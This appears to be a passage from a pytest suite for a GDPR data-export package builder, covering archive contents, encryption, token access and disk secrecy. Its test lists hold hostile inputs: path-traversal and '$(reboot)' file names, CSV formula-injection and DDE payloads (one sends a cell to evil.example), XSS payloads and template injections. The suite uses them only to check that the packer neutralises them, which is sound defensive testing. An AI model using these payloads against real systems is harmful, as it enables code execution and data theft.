"""The access package: what is in it, that it harms nobody who opens it, and that only its link opens it on disk."""

import csv
import datetime as dt
import hashlib
import hmac
import io
import itertools
import json
import os
import re
import signal
import struct
import subprocess
import sys
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import replace
from decimal import Decimal
from html import unescape
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
import pyzipper
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from bot.connectors import File, Table
from bot.errors import Refused, Temporary
from bot.package import Packer, Sheet, passphrase
from bot.package.frozen import Blob, Freezing, thaw
from bot.package.parts import guarded
from bot.package.words import LANGUAGES, accepted, spoken
from bot.sandbox import company as people
from tests.fixtures.company import CompanyDatabase

MADE = dt.datetime(2026, 11, 22, 10, 0, tzinfo=dt.UTC)
KEY = bytes(range(32))
ABOUT: dict[str, Any] = {
    "ref": "DPE-2026-0001",
    "received_on": dt.date(2026, 11, 20),
    "labels": {"server": "our internal server", "zoho": "Zoho CRM, our customer register"},
    "company": {"name": "Halltal Software AG", "address": ["Werkgasse 7", "8400 Winterthur"], "email": "info@halltal.example"},
    "policy": {
        "categories": [{"name": "Licences", "purposes": ["to switch them on", "to renew them"], "retention": "two years", "source": "you"}],
        "recipients": [{"name": "Treuhand Beispiel AG", "country": "Switzerland", "categories": ["Invoices"], "safeguard": ""}],
        "authorities": [{"name": "The Commissioner", "of": "people in Switzerland", "site": "https://authority.example"}],
    },
}  # fmt: skip


@pytest.fixture
def packer(tmp_path: Path) -> Packer:
    return Packer(tmp_path / "packages")


def table(rows: list[tuple[Any, ...]], columns: tuple[str, ...] = ("a", "b"), name: str = "licence", **more: Any) -> Table:
    return Table(name, "Licences", "", "", columns, tuple(rows), more.pop("labels", {"a": "First"}), **more)


def packed(
    packer: Packer, tables: dict[str, list[Any]], about: dict[str, Any] = ABOUT, cut: Callable[[Any], Any] = list
) -> bytes:
    """The zip of these answers, each held and thawed on the way."""
    with ExitStack() as files:
        thawed = {}
        for number, (system, answer) in enumerate(tables.items()):
            held = packer.hold(f"h{number}", KEY, answer)
            thawed[system] = cut(files.enter_context(packer.thawed(f"h{number}", KEY, held.digest)))
        made = packer.pack("p", thawed, about, MADE)
    content = b"".join(packer.open("p", made.token))
    assert (len(content), made.digest) == (made.size, hashlib.sha256(made.token.encode()).hexdigest())
    return content


def opened(packer: Packer, tables: dict[str, list[Any]], about: dict[str, Any] = ABOUT) -> dict[str, bytes]:
    """Name in the archive → content."""
    return unzipped(packed(packer, tables, about))


def unzipped(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


@contextmanager
def thawed(packer: Packer, *answer: Any) -> Iterator[Any]:
    """The sheets of one system's answer, held and read again."""
    held = packer.hold("h", KEY, answer)
    with packer.thawed("h", KEY, held.digest) as sheets:
        yield sheets


def whole(sheet: Sheet) -> list[tuple[Any, ...]]:
    """Its rows, with the bytes that stand in them."""
    source = sheet.rows.source
    return [tuple(b"".join(v.pieces(source)) if isinstance(v, Blob) else v for v in row) for row in sheet.rows]


# -- what is in it ------------------------------------------------------------------------------------------------


def test_a_package_has_the_page_the_data_the_tables_and_the_checksums(packer: Packer):
    """Every file is named in checksums.txt with its SHA-256; the page comes first."""
    files = opened(packer, {"server": [table([(1, b"\x89PNG picture")])], "zoho": []})
    assert list(files) == [
        "START-HERE.html", "sources.html", "data/FORMAT.txt", "data/schema.json", "data/server/licence.json", "tables/server-licence.csv",
        "files/server-licence-1-2.png", "checksums.txt",
    ]  # fmt: skip
    sums = dict(reversed(line.split("  ")) for line in files["checksums.txt"].decode().splitlines())  # type: ignore[misc]
    assert sums == {
        name: hashlib.sha256(content).hexdigest() for name, content in files.items() if name != "checksums.txt"
    }


def test_the_page_says_what_where_why_how_long_and_from_whom(packer: Packer):
    """Each table with its category, purpose, retention, source and explained columns; policy fills what is not said."""
    held = table([(1, "x")], label="Licences of yours", withheld={"Your password": "a secret"})
    page = opened(packer, {"server": [held], "zoho": []})["START-HERE.html"].decode()
    for words in (
        "Halltal Software AG", "DPE-2026-0001", "20\u00a0November\u00a02026", "Licences of yours", "to switch them on; to renew them",
        "two years", "<dd>our internal server</dd>", "First", "Not in this copy: Your password. Why: a secret.",
        "Zoho CRM, our customer register", "found nothing about you", "Treuhand Beispiel AG", "The Commissioner",
    ):  # fmt: skip
        assert words in page, words


def test_a_person_of_whom_nothing_is_held_reads_so(packer: Packer):
    """All systems are named, and that nothing was found there."""
    page = opened(packer, {"server": [], "zoho": [table([])]})["START-HERE.html"].decode()
    assert "We found nothing about you in any system we searched." in page
    assert "our internal server" in page
    assert "Zoho CRM, our customer register" in page


def test_nothing_but_the_tables_is_needed(packer: Packer):
    """Without company, policy and reference the package is still whole."""
    assert "Your data" in opened(packer, {"server": [table([(1, 2)])]}, {})["START-HERE.html"].decode()


def test_long_tables_and_long_values_are_cut_on_the_page_and_whole_in_the_files(packer: Packer):
    """The page stays readable and says what it leaves out."""
    rows = [(number, "z" * 10_000 if number == 0 else "short") for number in range(500)]
    files = opened(packer, {"server": [table(rows)]})
    page = files["START-HERE.html"].decode()
    assert "The first 200 of 500 records." in page
    assert "and 6000 characters more" in page
    assert len(json.loads(files["data/server/licence.json"])["rows"]) == 500
    assert len(files["tables/server-licence.csv"].decode("utf-8-sig").splitlines()) == 501


def test_the_page_goes_by_the_categories_of_the_policy(packer: Packer):
    """What belongs together stands together, wherever it lies; what the policy has no word for comes last."""
    policy = {"categories": [{"name": name, "purposes": ["x"], "retention": "", "source": ""} for name in ("Orders", "Letters")]}
    letters, notes, orders, odd = (
        replace(table([(1, 2)], label=f"{name} of yours"), category=name) for name in ("Letters", "Notes", "Orders", "")
    )
    about = {**ABOUT, "policy": policy}
    page = opened(packer, {"server": [odd, letters, orders], "zoho": [notes, orders]}, about)["START-HERE.html"].decode()
    assert re.findall("<h2>(.*?)</h2>|<h3.*?>(.*?)</h3>", page)[:9] == [
        ("Orders", ""), ("", "Orders of yours"), ("", "Orders of yours"), ("Letters", ""), ("", "Letters of yours"),
        ("Notes", ""), ("", "Notes of yours"), ("Other data", ""), ("", " of yours"),
    ]  # fmt: skip


def test_the_sources_say_where_was_looked_when_and_what_was_there(packer: Packer):
    """Each system with its moment; nothing is said as nothing, a person's look as one, what is left out as left out."""
    about = {
        **ABOUT, "labels": {**ABOUT["labels"], "paper": "the folder of paper", "crm": "the old register"},
        "looked": {"server": MADE, "zoho": MADE, "paper": MADE, "crm": MADE}, "by_hand": {"paper"}, "left_out": {"crm"},
    }  # fmt: skip
    files = opened(packer, {"server": [table([(1, 2)] * 3, label="Licences of yours")], "zoho": [], "paper": []}, about)
    rows = [
        " ".join(unescape(re.sub("<[^>]+>", " ", row)).split())
        for row in re.findall("<section>(.*?)</section>", files["sources.html"].decode(), re.DOTALL)
    ]
    at = "22 November 2026, 10:00"
    assert rows == [
        f"our internal server When {at} What was there Licences of yours : 3 records",
        f"Zoho CRM, our customer register When {at} What was there nothing",
        f"the folder of paper When {at} looked through by a person What was there nothing",
        f"the old register When {at} What was there not in this copy; our letter says why",
    ]
    assert 'href="START-HERE.html#t1-1"' in files["sources.html"].decode()
    assert 'id="t1-1"' in files["START-HERE.html"].decode()
    assert "the old register" not in files["START-HERE.html"].decode()


def test_every_data_file_is_as_the_schema_says(packer: Packer, company_file: CompanyDatabase):
    """A real person's data, and every kind of value there is, against the schema that lies beside them."""
    held = [*company_file.connect().export(company_file.one(people.MARA)), table([(value, b"%PDF") for value, _ in EXACT])]
    files = opened(packer, {"server": held})
    schema = json.loads(files["data/schema.json"])
    Draft202012Validator.check_schema(schema)
    checked = [name for name in files if re.fullmatch("data/server/.*[.]json", name)]
    assert len(checked) == len(held)
    for name in checked:
        Draft202012Validator(schema).validate(json.loads(files[name]))


EXACT = [
    (None, None), (True, True), (0, 0), (-7, -7), (2**63, 2**63), (10**40, 10**40), (0.1, 0.1), (1e300, 1e300),
    (float("inf"), "inf"), (Decimal("249.00"), "249.00"), (Decimal("1E+3"), "1E+3"), (Decimal("NaN"), "NaN"),
    ("", ""), ("=1+1", "=1+1"), ("Zoë \U0001f389", "Zoë \U0001f389"), ("\0\x1b", "\0\x1b"), ("\udcff", "\udcff"),
    ("</script>", "</script>"), (dt.date(2026, 2, 28), "2026-02-28"),
    (dt.datetime(2026, 2, 28, 1, 2, 3, 4), "2026-02-28 01:02:03.000004"),  # noqa: DTZ001
    (dt.datetime(2026, 2, 28, tzinfo=dt.UTC), "2026-02-28 00:00:00+00:00"), (dt.time(23, 59), "23:59:00"),
    (dt.timedelta(days=1), "1 day, 0:00:00"), (UUID(int=7), str(UUID(int=7))), ([1, [Decimal("2.50")]], [1, ["2.50"]]),
    ({"k": {"n": None}}, {"k": {"n": None}}),
]  # fmt: skip


@pytest.mark.parametrize(("value", "kept"), EXACT, ids=range(len(EXACT)))
def test_json_is_exact(packer: Packer, value: object, kept: object):
    """Type by type: what JSON knows stays what it is, the rest is text as documented. Freezing first changes nothing."""
    (row,) = json.loads(opened(packer, {"server": [table([(value, 1)])]})["data/server/licence.json"])["rows"]
    assert row == {"a": kept, "b": 1}
    assert type(row["a"]) is type(kept)


def test_bytes_become_files_named_by_their_kind(packer: Packer):
    """The JSON names file, size and checksum; the name comes from us, never from the content."""
    pictures = [(b"\x89PNG\r\n", b"\xff\xd8\xff\xe0"), (b"%PDF-1.7", b"MZ evil.exe"), (b"", None)]
    files = opened(packer, {"server": [table(pictures)]})
    rows = json.loads(files["data/server/licence.json"])["rows"]
    assert [Path(row["a"]["file"]).suffix for row in rows] == [".png", ".pdf", ".bin"]
    assert files[rows[1]["b"]["file"]] == b"MZ evil.exe"
    assert rows[1]["b"]["sha256"] == hashlib.sha256(b"MZ evil.exe").hexdigest()
    assert rows[1]["b"]["file"].endswith(".bin")


scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(st.characters(exclude_categories=())),
    st.binary(), st.decimals(allow_nan=False), st.dates(), st.datetimes(), st.times(), st.timedeltas(), st.uuids(),
)  # fmt: skip
anything = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3), max_leaves=6)


@settings(deadline=None)  # a busy machine is no fault
@given(st.lists(st.tuples(anything, anything), max_size=4))
def test_what_is_thawed_is_what_was_frozen(rows: list[tuple[Any, ...]]):
    """Every value with its type, every word about the table."""
    out = bytearray()
    freezing = Freezing(out.extend)
    held = table(rows, source="you", label="Licences", withheld={"x": "y"})
    freezing.add([held])
    (sheet,) = thaw(Memory(bytes(out)), freezing.digest)
    assert {**vars(sheet), "rows": tuple(whole(sheet))} == {**vars(held), "cut": False}
    assert repr(tuple(whole(sheet))) == repr(held.rows).replace(", fold=1", "")  # the second 02:30 of a night in autumn
    assert len(sheet.rows) == len(held.rows) == freezing.rows


class Memory:
    """Frozen bytes that never saw a disk."""

    def __init__(self, content: bytes) -> None:
        self._content = content
        self.size = len(content)

    def read_at(self, position: int, count: int) -> bytes:
        return self._content[position : position + count]


def test_files_of_a_system_lie_in_the_package(packer: Packer):
    """Their bytes come in pieces; their names stand in a table, with why somebody should look first."""
    pieces = iter([b"Subject: ", b"Hello"])
    mails = [File("inbox/1.eml", "Mail", "to answer you", "six years", pieces, look="names others")]
    files = opened(packer, {"mailbox": [table([(1, 2)]), *mails]})
    assert b"Subject: Hello" in [content for name, content in files.items() if name.startswith("files/")]
    assert any(b"inbox/1.eml" in content for name, content in files.items() if name.startswith("tables/"))


def test_a_place_may_come_in_several_tables(packer: Packer):
    """Tables that differ in their rows only are one; files are put together by category, wherever they came."""
    rows = [[(number, number) for number in range(start, start + 3)] for start in (0, 3, 6)]
    mail, note = (lambda n, c=c: File(f"{c}{n}", c, "", "", iter([f"{c}{n}".encode()])) for c in ("Mail", "Note"))
    answer = [table(rows[0]), table(rows[1]), mail(1), note(1), mail(2), table(rows[2]), table([(1, 1)], name="other")]
    with thawed(packer, *answer) as sheets:
        found = [(sheet.name, sheet.category, [row[0] for row in whole(sheet)]) for sheet in sheets]
    assert found == [
        ("licence", "Licences", [0, 1, 2, 3, 4, 5]), ("licence", "Licences", [6, 7, 8]), ("other", "Licences", [1]),
        ("files", "Mail", ["Mail1", "Mail2"]), ("files", "Note", ["Note1"]),
    ]  # fmt: skip
    files = opened(packer, {"mailbox": [mail(1), note(1), mail(2)]})
    assert [content for name, content in files.items() if name.startswith("files/")] == [b"Mail1", b"Mail2", b"Note1"]


def test_only_what_the_person_gave_is_handed_over(packer: Packer):
    """GDPR 20(1): the declared columns, and no table without any."""
    own = Table(
        "profile", "Customer data", "", "", ("mail", "score", "photo"), (("a@example.org", 7, b"\x89PNG"),),
        withheld={"x": "y"}, provided=("photo", "mail"),
    )  # fmt: skip
    other = Table("log", "Sign-in records", "", "", ("at",), (("today",),))
    with thawed(packer, own, other, File("1.eml", "Mail", "", "", [b"x"])) as sheets:
        (sheet,) = packer.given(sheets)
        assert (sheet.columns, whole(sheet), sheet.withheld) == (("mail", "photo"), [("a@example.org", b"\x89PNG")], {})
    files = unzipped(packed(packer, {"shop": [own, other]}, cut=packer.given))
    assert [name for name in files if name.startswith("data/shop")] == ["data/shop/profile.json"]
    assert b"score" not in files["data/shop/profile.json"]
    assert files["files/shop-profile-1-2.png"] == b"\x89PNG"


def test_a_value_of_an_unknown_kind_is_not_packed_silently(packer: Packer, tmp_path: Path):
    """Rather no package than a lossy one."""
    with pytest.raises(TypeError, match="cannot carry a object"):
        packer.hold("h", KEY, [table([(object(), 1)])])
    assert not [path for path in (tmp_path / "packages").rglob("*") if path.is_file()]


# -- names (T18) --------------------------------------------------------------------------------------------------

NAMES = [
    "../../etc/passwd", "..", ".", "", "/etc/passwd", "C:\\Windows\\win.ini", "..\\..\\x", "con", "NUL", "lpt1", "COM1.txt",
    "a" * 300, "\u202egnp.exe", "licence", "LICENCE", "licence\0.html", "START-HERE.html", "a/b", "a\nb", " ", "~root",
    "$(reboot)", "лицензия", "licence-2", "%2e%2e%2f",
]  # fmt: skip


def test_hostile_names_stay_inside_and_apart(packer: Packer, tmp_path: Path):
    """25 hostile table names: plain names inside the folder, each once, also where case does not count."""
    tables = [table([(1, b"x")], name=name) for name in NAMES]
    content = packed(packer, {"../server": tables, "con": tables[:2]})
    target = tmp_path / "out"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        assert len({name.lower() for name in names}) == len(names)
        assert not [name for name in names if not set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-_./STARHEFOM")]
        assert not [part for name in names for part in name.lower().split("/") if part.split(".")[0] in {"con", "nul", "lpt1", ""}]
        archive.extractall(target)
    inside = [path for path in target.rglob("*") if path.is_file()]
    assert len(inside) == len(names)
    outside = [path for path in tmp_path.iterdir() if path not in {target, tmp_path / "packages"}]
    assert outside == []


# -- tables for a spreadsheet (T19) -------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "|calc", "%0A=1", "-2+3+cmd|' /C calc'!D2",
    "=IMPORTXML(A1)", "=1;2", '="a,b"', "=1\r\n=2", "+41 44 555 01 01", "-5", "-", "=", "@", "+", "  \t=1", "\u3000=1",
    "==1", "=-1", "+=1", "=\0", '=""', "='x'", "=DDE(1)", "\u2060=1",
]  # fmt: skip


def test_no_cell_of_a_table_is_a_formula(packer: Packer):
    """40 payloads: every text cell is quoted and guarded, nothing breaks out of its cell, the JSON stays exact."""
    assert len(FORMULAS) == 40
    files = opened(packer, {"server": [table([(payload, 'x","=1') for payload in FORMULAS])]})
    raw = files["tables/server-licence.csv"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 41
    for cells, payload in zip(rows[1:], FORMULAS, strict=True):
        assert cells[0] == "'" + payload.replace("\0", "\ufffd"), repr(payload)
        assert cells[1] == 'x","=1'
    kept = [row["a"] for row in json.loads(files["data/server/licence.json"])["rows"]]
    assert kept == FORMULAS


def test_numbers_stay_numbers_in_a_table(packer: Packer):
    """Negative ones too; flags, dates and empty values read as what they are."""
    values = [-5, 2**63, -0.5, Decimal("-249.00"), True, None, dt.date(2026, 11, 22), "plain", [1, "=2"]]
    raw = opened(packer, {"server": [table([(value, 1) for value in values])]})["tables/server-licence.csv"]
    cells = [line.rsplit(",", 1)[0] for line in raw.decode("utf-8-sig").split("\r\n")[1:-1]]
    assert cells == [
        "-5", "9223372036854775808", "-0.5", "-249.00", '"yes"', "", '"2026-11-22"', '"plain"', '"[1, ""=2""]"',
    ]  # fmt: skip


def test_a_heading_is_guarded_too(packer: Packer):
    """Words of a column may come from the far side."""
    raw = opened(packer, {"zoho": [table([(1, 2)], labels={"a": "=1+1"})]})["tables/zoho-licence.csv"]
    assert raw.decode("utf-8-sig").splitlines()[0] == '"\'=1+1","b"'


@settings(deadline=None)  # a busy machine is no fault
@given(st.text())
def test_a_guarded_text_never_begins_like_a_formula(text: str):
    """And loses nothing: one ' more, or as it was."""
    assert guarded(text) in {text, f"'{text}"}
    assert guarded(text).lstrip(" \u00a0\u200b\ufeff")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


# -- the page in a browser (T20) ----------------------------------------------------------------------------------

INJECTIONS = [
    f"{quote}{end}{attack}"
    for quote in ("", "'", '"', "`")
    for end in ("", ">", "-->", "</style>")
    for attack in (
        "<script>alert(1)</script>", "<img src=https://evil.example/x onerror=alert(1)>", "<svg onload=alert(1)>",
        "<iframe src=https://evil.example></iframe><meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x><style>@import 'https://evil.example';body{background:url(https://evil.example)}</style>",
    )
] + ["javascript:alert(1)", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "\u202e<b>", "]]><x>"]  # fmt: skip


@pytest.fixture
def browser():
    """Chromium, closed to the network by nothing but the page itself."""
    playwright = pytest.importorskip("playwright.sync_api")
    chromium = next((path for path in ("/usr/bin/chromium", "/usr/bin/chromium-browser") if Path(path).exists()), None)
    if chromium is None:
        pytest.skip("Chromium is not installed")  # a developer may have none; on CI a skip fails: tests/fixtures/ci.py
    with playwright.sync_playwright() as started:
        opened_browser = started.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield opened_browser
        opened_browser.close()


@pytest.mark.browser
def test_the_page_asks_for_nothing_and_runs_nothing(packer: Packer, tmp_path: Path, browser: Any):
    """Over 80 payloads in every place foreign text can stand: 0 requests, 0 dialogs, 0 elements of theirs."""
    assert len(INJECTIONS) >= 80
    hostile = [
        table([(payload, payload)], labels={"a": payload, "b": payload}, label=payload, source=payload, name=payload,
              withheld={payload: payload})
        for payload in INJECTIONS
    ]  # fmt: skip
    many = table([(payload, index) for index, payload in enumerate(INJECTIONS)], label="many")
    name = INJECTIONS[0]
    about = {"ref": name, "labels": {"server": name}, "company": {"name": name, "address": [name], "email": name}, "policy": {}}
    about |= {"looked": {"server": MADE}, "left_out": [name]}
    for page_name, content in opened(packer, {"server": [*hostile, many]}, about).items():
        if page_name.endswith(".html"):
            (tmp_path / page_name).write_bytes(content)
    page = browser.new_page()
    asked, dialogs = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto((tmp_path / "START-HERE.html").as_uri(), wait_until="networkidle")
    nothing_of_theirs(page)
    assert page.locator("td .value").first.inner_text() == INJECTIONS[0]
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).fontWeight") == "680", "our own style is let through"
    assert "49" not in page.locator("td .value").nth(2 * INJECTIONS.index("{{ 7 * 7 }}")).inner_text()
    page.goto((tmp_path / "sources.html").as_uri(), wait_until="networkidle")
    nothing_of_theirs(page)
    assert page.locator("dd li").count() == len(hostile) + 1
    assert [url for url in asked if not url.endswith(("START-HERE.html", "sources.html"))] == []
    assert dialogs == []


def nothing_of_theirs(page: Any) -> None:
    """No element in the page but our own."""
    assert page.locator("script, img, svg, iframe, link, object, embed, form, base").count() == 0
    assert page.locator("style").count() == 1
    assert page.locator("meta[http-equiv=refresh]").count() == 0


@pytest.mark.browser
@pytest.mark.parametrize("width", [320, 1200])
def test_the_page_is_accessible_and_fits(packer: Packer, company_file: CompanyDatabase, tmp_path: Path, browser: Any, width: int):
    """A real person's package: no violation found by axe, nothing wider than the screen."""
    from axe_playwright_python.sync_playwright import Axe

    held = list(company_file.connect().export(company_file.one(people.MARA)))
    files = opened(packer, {"server": held, "zoho": []}, {**ABOUT, "looked": {"server": MADE, "zoho": MADE}})
    for name, scheme in itertools.product(("START-HERE.html", "sources.html"), ("light", "dark")):
        (tmp_path / name).write_bytes(files[name])
        page = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=True).new_page()
        page.goto((tmp_path / name).as_uri())
        found = Axe().run(page)
        assert found.violations_count == 0, found.generate_report()
        assert page.evaluate("document.documentElement.scrollWidth") <= width


# -- locked, for a mail --------------------------------------------------------------------------------------------


def by_the_book(content: bytes, phrase: str) -> dict[str, bytes]:
    """A reader of our own, after WinZip's specification (AE-2): PBKDF2-HMAC-SHA1, AES-256 in counter mode, HMAC-SHA1."""
    found = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entries = archive.infolist()
    for entry in entries:
        assert (entry.flag_bits & 1, entry.compress_type, entry.CRC) == (1, 99, 0)
        assert entry.extra[:11] == struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 8), "AE-2, AES-256, deflated inside"
        name, extra = struct.unpack("<HH", content[entry.header_offset + 26 : entry.header_offset + 30])
        start = entry.header_offset + 30 + name + extra
        data = content[start : start + entry.compress_size]
        salt, check, sealed, tag = data[:16], data[16:18], data[18:-10], data[-10:]
        keys = hashlib.pbkdf2_hmac("sha1", phrase.encode(), salt, 1000, 66)
        assert keys[64:] == check
        assert hmac.digest(keys[32:64], sealed, "sha1")[:10] == tag
        plain = bytearray()
        ecb = Cipher(algorithms.AES(keys[:32]), modes.ECB()).encryptor()
        for number, at in enumerate(range(0, len(sealed), 16), start=1):
            pad = ecb.update(number.to_bytes(16, "little"))
            plain += bytes(a ^ b for a, b in zip(sealed[at : at + 16], pad, strict=False))
        found[entry.filename] = zlib.decompress(bytes(plain), -15)
    return found


def test_a_locked_package_opens_with_its_passphrase_alone(packer: Packer):
    """AES-256 throughout, read by a reader of our own; the same files as behind a link; nothing of them in the clear.

    Names of files in a zip are never secret: so none is taken from what somebody called theirs.
    """
    letter = File("CV of CANARY.pdf", "Licences", "", "", iter([b"%PDF CANARY"]))
    held = packer.hold("h", KEY, [table([("CANARY", b"\x89PNG CANARY")]), letter])
    with packer.thawed("h", KEY, held.digest) as sheets:
        made = packer.pack("p", {"server": sheets, "zoho": []}, ABOUT, MADE, locked=True)
        plain = packer.pack("q", {"server": sheets, "zoho": []}, ABOUT, MADE)
    content = b"".join(packer.open("p", made.token))
    assert re.fullmatch("([A-HJ-NP-Z2-9]{4}-){5}[A-HJ-NP-Z2-9]{4}", made.token)
    assert b"CANARY" not in content
    assert by_the_book(content, made.token) == unzipped(b"".join(packer.open("q", plain.token)))
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive, pytest.raises(RuntimeError, match="password"):
        archive.read("START-HERE.html", pwd=b"ABCD-EFGH")


def test_a_passphrase_is_long_and_has_no_sign_people_mistake(packer: Packer):
    """Six groups of four, 32 signs each: more than anybody tries, though a zip derives its key with a thousand rounds."""
    phrases = {passphrase() for _ in range(300)}
    assert len(phrases) == 300
    assert not set("".join(phrases)) & set("IO01 ")


# -- on disk (T28) ------------------------------------------------------------------------------------------------


def test_only_the_token_opens_a_package(packer: Packer, tmp_path: Path):
    """Packed and opened; another token, another name or no token do not."""
    made = packer.pack("DPE-2026-0001-1", {}, ABOUT, MADE)
    assert b"".join(packer.open("DPE-2026-0001-1", made.token)).startswith(b"PK")
    assert made.digest == hashlib.sha256(made.token.encode()).hexdigest()
    assert len(made.token) >= 43  # 256 bits
    for other in ("", made.token[:-1], made.token.swapcase(), made.digest):
        with pytest.raises(Refused):
            packer.open("DPE-2026-0001-1", other)
    (file,) = (tmp_path / "packages").glob("*.package")
    file.rename(file.with_name("DPE-2026-0002-1.package"))
    with pytest.raises(Refused):
        packer.open("DPE-2026-0002-1", made.token)


def test_disk_alone_gives_nothing_away(packer: Packer, tmp_path: Path):
    """Neither content nor token stands in a file, of the answer or of the package; all are closed to others."""
    packer.hold("h", KEY, [table([("CANARY-Mara", b"CANARY picture")])])
    content = packed(packer, {"server": [table([("CANARY-Mara", 1)])]})
    files = [path for path in (tmp_path / "packages").rglob("*") if path.is_file()]
    assert len(files) == 3
    for path in files:
        raw = path.read_bytes()
        for secret in (b"CANARY", b"START-HERE", b"licence", KEY, content[:64]):
            assert secret not in raw
        assert path.stat().st_mode & 0o077 == 0
        assert path.parent.stat().st_mode & 0o077 == 0


def test_packed_again_the_older_link_is_dead(packer: Packer):
    """One file of a name; the token of the last one opens it."""
    old, new = (packer.pack("p", {}, ABOUT, MADE).token for _ in range(2))
    assert old != new
    packer.open("p", new).close()
    with pytest.raises(Refused):
        packer.open("p", old)


def test_removed_is_gone(packer: Packer, tmp_path: Path):
    """Twice is no error; what is gone is Refused."""
    token = packer.pack("p", {}, ABOUT, MADE).token
    held = packer.hold("h", KEY, [])
    for _ in range(2):
        packer.remove("p")
        packer.let_go("h")
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []
    with pytest.raises(Refused, match="no such package"):
        packer.open("p", token)
    with pytest.raises(Refused), packer.thawed("h", KEY, held.digest):
        pass


@pytest.mark.parametrize("name", ["../p", "", ".p", "a/b", "p\0", "p" * 200, "-p"])
def test_a_name_cannot_leave_the_folder(packer: Packer, name: str):
    """Names of files are ours; another kind is a mistake in the program."""
    for ask in (
        lambda: packer.pack(name, {}, ABOUT, MADE), lambda: packer.open(name, "t"), lambda: packer.remove(name),
        lambda: packer.hold(name, KEY, []), lambda: packer.let_go(name),
    ):  # fmt: skip
        with pytest.raises(ValueError, match="made of letters"):
            ask()


def test_an_answer_is_only_taken_as_it_was_written(packer: Packer, tmp_path: Path):
    """Another key, another name, an older answer of the same name, a changed byte, a cut: none is taken for it."""
    old = packer.hold("h", KEY, [table([(1, 2)])])
    (file,) = (tmp_path / "packages" / "holdings").iterdir()
    older = file.read_bytes()
    held = packer.hold("h", KEY, [table([(1, 3)])])
    raw = file.read_bytes()
    file.with_name("other.holding").write_bytes(raw)
    for name, key, digest, content in (
        ("h", KEY[::-1], held.digest, raw), ("other", KEY, held.digest, raw), ("h", KEY, held.digest, older),
        ("h", KEY, old.digest, raw), ("h", KEY, held.digest, raw[:-1]), ("h", KEY, held.digest, raw + b"0"),
        ("h", KEY, held.digest, raw[:50] + bytes([raw[50] ^ 1]) + raw[51:]), ("h", KEY, held.digest, b""),
    ):  # fmt: skip
        file.write_bytes(content)
        with pytest.raises(Refused), packer.thawed(name, key, digest):
            pass
    file.write_bytes(raw)
    with packer.thawed("h", KEY, held.digest) as (sheet,):
        assert whole(sheet) == [(1, 3)]


def test_a_copy_that_breaks_off_leaves_nothing(packer: Packer, tmp_path: Path):
    """Neither half a file nor half an answer in place of an older one."""

    def pieces():
        yield b"x" * 3_000_000
        raise Temporary("A file changed while it was copied.")

    before = packer.hold("h", KEY, [table([(1, 2)])])
    with pytest.raises(Temporary, match="while it was copied"):
        packer.hold("h", KEY, [table([(3, 4)]), File("film", "Films", "", "", pieces())])
    assert [path.name for path in (tmp_path / "packages" / "holdings").iterdir()] == ["h.holding"]
    with packer.thawed("h", KEY, before.digest) as (sheet,):
        assert whole(sheet) == [(1, 2)]


def test_a_full_disk_is_waited_for(packer: Packer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    """TRUST F52: nothing is left behind, and it is tried again."""

    def full(descriptor: int, mode: str) -> Any:
        os.close(descriptor)
        return Path("/dev/full").open(mode)

    monkeypatch.setattr("bot.package.vault.os.fdopen", full)
    for write in (lambda: packer.hold("h", KEY, [table([(1, 2)])]), lambda: packer.pack("p", {}, ABOUT, MADE)):
        with pytest.raises(Temporary, match="cannot be written"):
            write()
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


def test_what_no_row_names_is_swept_after_an_hour(packer: Packer, tmp_path: Path):
    """Until then somebody may be about to write the row; what a row names stays as long as it does."""
    for name in ("named", "orphan", "young"):
        packer.hold(name, KEY, [])
    folder = tmp_path / "packages" / "holdings"
    for name in ("named", "orphan"):
        os.utime(folder / f"{name}.holding", (0, 0))
    assert packer.sweep({"named"}) == 1
    assert sorted(path.stem for path in folder.iterdir()) == ["named", "young"]


_PACK = """
import sys
from datetime import datetime
from pathlib import Path
from bot.connectors import Table
from bot.package import Packer
p = Packer(Path(sys.argv[1]))
held = p.hold("h", bytes(32), [Table("t", "", "", "", ("a",), ((1,),))])
with p.thawed("h", bytes(32), held.digest) as sheets:
    p.pack("p", {"s": sheets}, {}, datetime(2026, 11, 22))
"""


@pytest.mark.parametrize(
    ("point", "left"),
    [
        ("holding.sealed", ["h.holding.PART"]), ("holding.renamed", ["h.holding"]), ("package.opened", ["h.holding"]),
        ("package.packed", ["h.holding", "p.package.PART"]), ("package.sealed", ["h.holding", "p.package.PART"]),
